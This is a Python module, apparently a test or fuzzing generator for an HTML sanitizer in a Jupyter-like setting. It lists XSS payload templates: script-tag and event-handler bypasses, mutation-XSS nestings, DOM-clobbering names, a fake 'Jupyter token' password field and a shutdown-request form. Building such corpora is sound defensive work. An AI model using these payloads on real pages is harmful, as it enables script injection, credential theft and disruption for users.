"""Markup that runs: scripts, handlers of events, nestings that a second reading takes apart, names."""

from __future__ import annotations

from collections.abc import Callable, Iterator

SCRIPTS = [
    "<script>@JS@</script>",
    "<script src=@URL@a.js></script>",
    "<ScRiPt>@JS@</sCrIpT >",
    "<script\n>@JS@</script\n>",
    "<script/x>@JS@</script>",
    "<scr<script>ipt>@JS@</scr</script>ipt>",
    "<<script>@JS@//<</script>",
    "<script type=module>@JS@</script>",
    "<script type=text/javascript;version=1>@JS@</script>",
    '<script type=importmap>{"imports":{"a":"@URL@"}}</script><script type=module>import \'a\'</script>',
    '<script type=speculationrules>{"prefetch":[{"urls":["@URL@"]}]}</script>',
    "<svg><script>@JS@</script></svg>",
    "<svg><script href=@URL@b.js /></svg>",
    "<svg><script xlink:href='data:text/javascript,@JS@' /></svg>",
    "<math><script>@JS@</script></math>",
    "</script><script>@JS@</script>",
    "</style><script>@JS@</script>",
    "</title><script>@JS@</script>",
    "</textarea><script>@JS@</script>",
    "</pre></code></details></div><script>@JS@</script>",
    "--><script>@JS@</script>",
    "--!><script>@JS@</script>",
    "]]><script>@JS@</script>",
    '"><script>@JS@</script>',
    "'><script>@JS@</script>",
    "`><script>@JS@</script>",
    "<script>@JS@",
    "<script>@JS@</script",
    "\x00<\x00script>@JS@</script>",
    "<\u200bscript>@JS@</script><script\u2028>@JS@</script>",
    "\uff1cscript\uff1e@JS@\uff1c/script\uff1e",
    "+ADw-script+AD4-@JS@+ADw-/script+AD4-",
    "&lt;script&gt;@JS@&lt;/script&gt;",
    "&#60;script&#62;@JS@&#60;/script&#62;",
    "&amp;lt;script&amp;gt;@JS@&amp;lt;/script&amp;gt;",
]

# Elements whose event comes by itself, or by the pointer that passes over all of the page.
HANDLERS = [
    "<img src=x onerror=@JS@>",
    "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=@JS@>",
    "<svg onload=@JS@></svg>",
    "<body onload=@JS@>",
    "<body onpageshow=@JS@>",
    "<iframe onload=@JS@></iframe>",
    "<object data=x onerror=@JS@></object>",
    "<embed src=x onload=@JS@>",
    "<video><source onerror=@JS@ src=x></video>",
    "<audio src=x onerror=@JS@></audio>",
    "<video autoplay onloadstart=@JS@ src=x></video>",
    "<input autofocus onfocus=@JS@>",
    "<select autofocus onfocus=@JS@></select>",
    "<textarea autofocus onfocus=@JS@></textarea>",
    "<a href=# autofocus tabindex=1 onfocus=@JS@>x</a>",
    "<div contenteditable autofocus onfocus=@JS@>x</div>",
    "<details open ontoggle=@JS@>x</details>",
    "<div popover id=pop@N@ onbeforetoggle=@JS@>x</div><button autofocus popovertarget=pop@N@>x</button>",
    "<marquee onstart=@JS@>x</marquee>",
    "<style>@keyframes k@N@{}</style><b style='animation:k@N@ 1s' onanimationstart=@JS@>x</b>",
    "<svg><animate onbegin=@JS@ attributeName=x dur=1s></svg>",
    "<svg><set onbegin=@JS@ attributeName=x></svg>",
    "<link rel=stylesheet href=x onerror=@JS@>",
    "<style onload=@JS@>a{}</style>",
    "<b style='content-visibility:auto' oncontentvisibilityautostatechange=@JS@>x</b>",
    "<div onpointerenter=@JS@ onmouseover=@JS@ style='position:fixed;inset:0'>x</div>",
    "<div onclick=@JS@ onpointerdown=@JS@>x</div>",
    "<button onclick=@JS@ accesskey=x>x</button>",
    "<form onsubmit=@JS@><input type=submit autofocus></form>",
    "<math><mi onclick=@JS@ onmouseover=@JS@>x</mi></math>",
    "<x-y onfocus=@JS@ tabindex=1 autofocus>x</x-y>",
]


def _upper(template: str) -> str:
    return (
        "".join(c.upper() if i % 2 else c for i, c in enumerate(template[: template.find("@")]))
        + (template[template.find("@") :])
    )


# How an attribute may be spelt so that a browser still reads it.
SPELLINGS: list[Callable[[str], str]] = [
    lambda t: t,
    lambda t: t.replace(" on", "/on", 1),
    lambda t: t.replace("=@JS@", '="@JS@"'),
    lambda t: t.replace("=@JS@", "\n=\n'@JS@'"),
    lambda t: t.replace(" on", "\x0con", 1),
    lambda t: t.replace("=@JS@", "=&#116;op.pwned&#x3d;@N@"),
    lambda t: t.replace(" on", " a='>' on", 1),
    lambda t: t.replace(" on", ' title="`" on', 1),
    lambda t: t.removesuffix(">") if t.count("<") == 1 else t + "<",
]

NESTINGS = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=@JS@>'>",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=@JS@></style></mglyph></table></mtext></math>",
    "<svg><style><img src=x onerror=@JS@></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=@JS@>'>",
    "<svg><p><style><g title='</style><img src=x onerror=@JS@>'>",
    "<svg><desc><noscript><a title='</noscript><img src=x onerror=@JS@>'></noscript></desc></svg>",
    "<svg><foreignObject><body><img src=x onerror=@JS@></body></foreignObject></svg>",
    "<svg><title><iframe srcdoc='<script>@JS@</script>'></iframe></title></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=@JS@></annotation-xml></math>",
    "<math><annotation-xml encoding='application/xhtml+xml'><style><img src=x onerror=@JS@></style></annotation-xml>",
    "<math><semantics><annotation><svg onload=@JS@></annotation></semantics></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:@JS@>x</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror=@JS@>'>",
    "<noembed><img title='</noembed><img src=x onerror=@JS@>'>",
    "<noframes><img title='</noframes><img src=x onerror=@JS@>'>",
    "<xmp><img title='</xmp><img src=x onerror=@JS@>'>",
    "<iframe><img title='</iframe><img src=x onerror=@JS@>'>",
    "<title><img title='</title><img src=x onerror=@JS@>'>",
    "<textarea><img title='</textarea><img src=x onerror=@JS@>'>",
    "<style><img title='</style><img src=x onerror=@JS@>'>",
    "<template><img src=x onerror=@JS@></template>",
    "<div><template shadowrootmode=open><img src=x onerror=@JS@></template></div>",
    "<select><template><img src=x onerror=@JS@></template><option><img src=x onerror=@JS@>",
    "<table><td><svg><tr><img src=x onerror=@JS@>",
    "<form><div></form><form id=f@N@><img src=x onerror=@JS@>",
    "<a><table><a><img src=x onerror=@JS@></a></table></a>",
    "<p><svg><p><math><p><img src=x onerror=@JS@>",
    "<!--><img src=x onerror=@JS@>-->",
    "<!--- --!><img src=x onerror=@JS@> -->",
    "<!-- <!-- --><img src=x onerror=@JS@>",
    "<!x><img src=x onerror=@JS@>",
    "<?php <img src=x onerror=@JS@> ?>",
    "<?xml-stylesheet href='@URL@x.xsl'?><!DOCTYPE x [<!ENTITY a SYSTEM '@URL@'>]>&a;",
    "<![CDATA[<img src=x onerror=@JS@>]]>",
    "<svg><![CDATA[><img src=x onerror=@JS@>]]></svg>",
    "<img alt='<x' title='/><img src=x onerror=@JS@>'>",
    '<b title="&quot;><img src=x onerror=@JS@>">x</b>',
    "<img src='x` `><img src=x onerror=@JS@>'>",
    "<plaintext><img src=x onerror=@JS@>",
    "<frameset onload=@JS@><frame src=javascript:@JS@></frameset>",
    "<isindex action=javascript:@JS@ type=image>",
    "<div>" * 300 + "<img src=x onerror=@JS@>" + "</div>" * 300,
    "<b>" * 600 + "<svg onload=@JS@>",
]

# What a page's own code asks `document` or `window` for; an element of that name answers instead.
NAMES = [
    "body", "head", "cookie", "forms", "scripts", "implementation", "createElement", "getElementById",
    "querySelector", "documentElement", "defaultView", "currentScript", "location", "jupyterapp",
    "jupyterlab", "_JUPYTERLAB", "MathJax", "webpackPublicPath", "require", "attributes",
]  # fmt: skip
CLOBBERING = [
    "<a id=@NAME@ name=@NAME@ href=@URL@>x</a>",
    "<form id=@NAME@><input name=attributes><input name=@NAME@></form>",
    "<img name=@NAME@ id=@NAME@><img name=@NAME@>",
    "<iframe name=@NAME@ srcdoc='<a id=x href=@URL@>'></iframe>",
]
FORMS = [
    "<form action=@URL@><button autofocus>Continue</button></form>",
    "<form action=javascript:@JS@><input type=submit value=Continue></form>",
    "<form id=g@N@></form><button form=g@N@ formaction=@URL@ formmethod=post>Continue</button>",
    "<button formaction=javascript:@JS@>Continue</button>",
    "<form><input type=image formaction=javascript:@JS@ src=@URL@b.png></form>",
    "<input type=password name=password placeholder='Jupyter token'><input type=file>",
    "<isindex formaction=javascript:@JS@>",
    "<form action='/api/shutdown' method=post><button autofocus>Continue</button></form>",
]


def templates() -> Iterator[tuple[str, str]]:
    yield from (("script", one) for one in SCRIPTS)
    for place, one in enumerate(HANDLERS):
        yield "handler", one
        for step in (1, 4):
            yield "handler", _upper(SPELLINGS[(place + step) % len(SPELLINGS)](one))
    yield from (("nesting", one) for one in NESTINGS)
    for place, name in enumerate(NAMES):
        yield "name", CLOBBERING[place % len(CLOBBERING)].replace("@NAME@", name)
    yield from (("form", one) for one in FORMS)
